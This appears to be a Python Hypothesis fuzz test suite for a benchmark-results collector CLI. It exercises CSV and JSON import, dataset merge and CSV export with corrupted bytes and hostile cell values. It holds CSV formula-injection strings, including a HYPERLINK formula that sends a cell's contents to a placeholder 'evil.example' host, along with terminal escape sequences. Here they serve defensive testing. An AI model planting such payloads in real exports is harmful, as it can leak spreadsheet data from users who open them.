"""Hypothesis fuzz pass over the file commands (issue 23): import-study (CSV and JSON), merge, export --csv.

Every example writes real files and runs the command line (``collector.__main__.main``, in this process for
speed). It either succeeds with a file that opens and validates (a dataset) or reads back (a CSV, free of
control characters and formula cells), or fails with exit status 2 and one line ``error: ...``; any
traceback (an exception out of ``main``) fails the test. Examples per target: ``DECODE_REGIMES_FUZZ_EXAMPLES``
(25 by default), as in tests/test_fuzz.py.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import math
import warnings
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import xarray as xr
from hypothesis import assume, example, given
from hypothesis import strategies as st

from collector.__main__ import main as collector_main
from collector.dataset import schema
from test_fuzz import BASE, FUZZ, FUZZ_SCHEMA, Tally, apply_schema, schema_mutations

COLUMNS = ["model", "execution_mode", "prompt_name", "max_tokens", "use_cache", "samples", "success_rate",
           "avg_latency", "avg_prefill_time", "avg_decode_time", "p95_latency", "offered_load", "my-col", "my_col"]
OK_ROW = {"model": "gpt2", "execution_mode": "mps", "prompt_name": "long_context", "max_tokens": 16,
          "use_cache": "true", "samples": 5, "success_rate": 100.0, "avg_latency": 1.0, "avg_prefill_time": 0.1,
          "avg_decode_time": 0.9, "p95_latency": 1.2, "offered_load": 1, "my-col": 1, "my_col": 2}
_COUNTER = itertools.count()
#: Smallest share of examples that must succeed, per target (the rest are refused with one line). Measured
#: when this was set (300 examples each): csv rows 137 (46 %), json rows 130 (43 %), merge 50 (17 %), export
#: --csv 60 (20 %). merge and export run 4x the examples (FUZZ_SCHEMA: most schema mutations make a file
#: invalid); each minimum asks for one success, which a correct build misses with a chance below 1e-6.
MIN_SHARE = {"csv rows": 0.04, "json rows": 0.04, "merge": 0.01, "export --csv": 0.01}

# values a harness cell may hold: ordinary ones, and the hostile ones of issue 23
NUMBERS = st.one_of(st.integers(-(2**70), 2**70), st.floats(allow_nan=True, allow_infinity=True),
                    st.sampled_from([0, 1, 16, 3e9, 1e20, 2**63, 1e300, -50, 1000, "nan", "", "1e309", "9" * 5000]))
TEXTS = st.one_of(st.text(max_size=20), st.sampled_from(["gpt2", "=HYPERLINK(\"x\")", "a\x00b", "\x1b[2J", "é",
                                                         "long_context", "mps", "cpu", "mps-fp16", "true", "no"]))
CELL = st.one_of(NUMBERS, TEXTS, st.none(), st.booleans())


def run_cli(*argv: str) -> tuple[int, str]:
    err, out = io.StringIO(), io.StringIO()
    with redirect_stderr(err), redirect_stdout(out), warnings.catch_warnings():
        warnings.simplefilter("ignore")
        rc = collector_main(list(argv))
    return rc, err.getvalue()


def judged(tally: Tally, rc: int, err: str, output: Path, kind: str = "nc") -> None:
    """Success with a file that reads back, or exit 2 with one error line; counted in ``tally``."""
    if rc == 0:
        if kind == "nc":
            ds = schema.load(output)  # opens and validates
            assert isinstance(ds, xr.Dataset)
        else:
            raw = output.read_bytes()
            assert not any(b in raw for b in (b"\x00", b"\x1b", b"\x07")), raw[:200]
            with output.open(newline="", encoding="utf-8") as fh:
                for row in csv.reader(fh):
                    for cell in row:
                        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            pd.read_csv(output)
        tally.add(True)
    else:
        assert rc == 2, (rc, err)
        lines = err.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("error: "), err
        tally.add(False)
    output.unlink(missing_ok=True)


def _csv_text(rows: list[dict[str, Any]], columns: list[str]) -> str:
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=columns, extrasaction="ignore")
    writer.writeheader()
    for r in rows:
        writer.writerow({k: ("" if v is None else v) for k, v in r.items()})
    return buf.getvalue()


OK_CSV = _csv_text([OK_ROW, {**OK_ROW, "max_tokens": 32, "avg_latency": 2.0}], COLUMNS).encode()


@st.composite
def byte_edits(draw: st.DrawFn) -> bytes:
    """A valid harness CSV with bytes replaced, inserted, deleted or cut off, or re-encoded, or random bytes."""
    kind = draw(st.sampled_from(["edit", "encode", "random", "cut"]))
    if kind == "random":
        return draw(st.binary(max_size=400))
    if kind == "encode":
        enc = draw(st.sampled_from(["utf-16", "utf-32", "utf-8-sig", "cp1252", "latin-1"]))
        return OK_CSV.decode().encode(enc)
    data = bytearray(OK_CSV)
    if kind == "cut":
        return bytes(data[: draw(st.integers(0, len(data)))])
    for _ in range(draw(st.integers(1, 4))):
        at = draw(st.integers(0, len(data)))
        op = draw(st.sampled_from(["replace", "insert", "delete"]))
        byte = draw(st.integers(0, 255))
        if op == "replace" and at < len(data):
            data[at] = byte
        elif op == "insert":
            data.insert(at, byte)
        elif at < len(data):
            del data[at]
    return bytes(data)


@st.composite
def harness_rows(draw: st.DrawFn) -> tuple[list[dict[str, Any]], list[str]]:
    """1-4 rows: each an ok row with some cells replaced by hostile values; some columns dropped or renamed."""
    required = ("model", "execution_mode", "prompt_name", "max_tokens", "use_cache", "avg_latency")
    dropped = draw(st.lists(st.sampled_from(COLUMNS), max_size=1)) if draw(st.integers(0, 9)) == 0 else []
    columns = [c for c in COLUMNS if (c in required or draw(st.booleans())) and c not in dropped]
    columns += draw(st.lists(st.sampled_from(["my col", "x\x1b", "=cmd", "harness", ""]), max_size=1, unique=True))
    rows = []
    for i in range(draw(st.integers(1, 4))):
        row = {**OK_ROW, "max_tokens": 16 * (i + 1)}
        for c in draw(st.lists(st.sampled_from(columns), max_size=2, unique=True)):
            row[c] = draw(CELL)
        rows.append(row)
    return rows, columns


def test_import_study_csv_bytes(tmp_path: Path) -> None:
    tally = Tally("csv bytes")

    @FUZZ
    @given(data=byte_edits())
    @example(data=OK_CSV)
    @example(data=b"\xef\xbb\xbf" + OK_CSV)
    def one(data: bytes) -> None:
        src, out = tmp_path / f"b{next(_COUNTER)}.csv", tmp_path / "out.nc"
        src.write_bytes(data)
        judged(tally, *run_cli("import-study", str(src), "-o", str(out), "--force"), out)
        src.unlink()

    one()
    assert tally.results >= 1  # the unchanged file, at least


def test_import_study_csv_rows(tmp_path: Path) -> None:
    tally = Tally("csv rows")

    @FUZZ
    @given(spec=harness_rows())
    def one(spec: tuple[list[dict[str, Any]], list[str]]) -> None:
        rows, columns = spec
        src, out = tmp_path / f"r{next(_COUNTER)}.csv", tmp_path / "out.nc"
        src.write_text(_csv_text(rows, columns), encoding="utf-8")
        judged(tally, *run_cli("import-study", str(src), "-o", str(out), "--force"), out)
        src.unlink()

    one()
    tally.check(MIN_SHARE["csv rows"])


def _json_value(v: Any) -> Any:
    if isinstance(v, float) and not math.isfinite(v):
        return v  # json.dumps writes NaN / Infinity, which the harness's json module writes too
    return v


@st.composite
def json_documents(draw: st.DrawFn) -> str:
    kind = draw(st.sampled_from(["rows", "rows", "deep", "other"]))
    if kind == "deep":
        n = draw(st.integers(1, 5000))
        return "[" * n + "]" * n
    if kind == "other":
        return json.dumps(draw(st.one_of(st.dictionaries(st.text(max_size=5), CELL, max_size=3),
                                         st.lists(CELL, max_size=3), CELL)), default=str)
    rows, columns = draw(harness_rows())
    doc = [{k: _json_value(v) for k, v in r.items() if k in columns} for r in rows]
    if draw(st.booleans()):  # a nested value somewhere
        doc[0]["model"] = draw(st.one_of(st.lists(CELL, max_size=2), st.dictionaries(st.text(max_size=3), CELL,
                                                                                     max_size=2)))
    return json.dumps(doc, default=str)


def test_import_study_json(tmp_path: Path) -> None:
    tally = Tally("json rows")

    @FUZZ
    @given(text=json_documents())
    def one(text: str) -> None:
        src, out = tmp_path / f"j{next(_COUNTER)}.json", tmp_path / "out.nc"
        src.write_text(text, encoding="utf-8")
        judged(tally, *run_cli("import-study", str(src), "-o", str(out), "--force"), out)
        src.unlink()

    one()
    tally.check(MIN_SHARE["json rows"])


def _write(ds: xr.Dataset, path: Path) -> None:
    try:
        ds.to_netcdf(path)
    except Exception:  # noqa: BLE001 - xarray or netCDF cannot write this one: nothing to read
        assume(False)


def _rerun(ds: xr.Dataset) -> xr.Dataset:
    b = ds.copy(deep=True)
    if "started_at" in b and b["started_at"].dtype.kind == "M":
        b["started_at"] = b["started_at"] + np.timedelta64(1, "h")
    return b


def test_merge(tmp_path: Path) -> None:
    tally = Tally("merge")

    @FUZZ_SCHEMA
    @given(ops_a=schema_mutations(), ops_b=schema_mutations(), mutated=st.sampled_from(["none", "a", "b", "both"]),
           mode=st.sampled_from(["", "as-trials", "as-trials", "first", "same"]))
    def one(ops_a: list[tuple[Any, ...]], ops_b: list[tuple[Any, ...]], mutated: str, mode: str) -> None:
        ops_a = ops_a if mutated in ("a", "both") else []
        ops_b = ops_b if mutated in ("b", "both") else []
        n = next(_COUNTER)
        a, b, out = tmp_path / f"a{n}.nc", tmp_path / f"b{n}.nc", tmp_path / "m.nc"
        _write(apply_schema(BASE, ops_a), a)
        _write(_rerun(apply_schema(BASE, ops_b)) if mode != "same" else apply_schema(BASE, ops_a), b)
        flags = {"as-trials": ["--as-trials"], "first": ["--resolve", "first"]}.get(mode, [])
        judged(tally, *run_cli("merge", str(a), str(b), "-o", str(out), "--force", *flags), out)
        a.unlink()
        b.unlink()

    one()
    tally.check(MIN_SHARE["merge"])


def test_export_csv(tmp_path: Path) -> None:
    tally = Tally("export --csv")
    evil = ["=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")", "@SUM(1)", "+1", "-1", "\tx", "a\x1b[2Jb\x07"]

    @FUZZ_SCHEMA
    @given(ops=st.one_of(st.just([]), schema_mutations()), name=st.sampled_from(["gpt2", *evil]))
    def one(ops: list[tuple[Any, ...]], name: str) -> None:
        n = next(_COUNTER)
        src, out = tmp_path / f"e{n}.nc", tmp_path / "e.csv"
        ds = apply_schema(BASE, ops)
        if "model" in ds.coords and ds.sizes.get("model") == 1:
            ds = ds.assign_coords(model=[name])
        _write(ds, src)
        judged(tally, *run_cli("export", "--csv", str(src), "-o", str(out), "--force"), out, kind="csv")
        src.unlink()

    one()
    tally.check(MIN_SHARE["export --csv"])
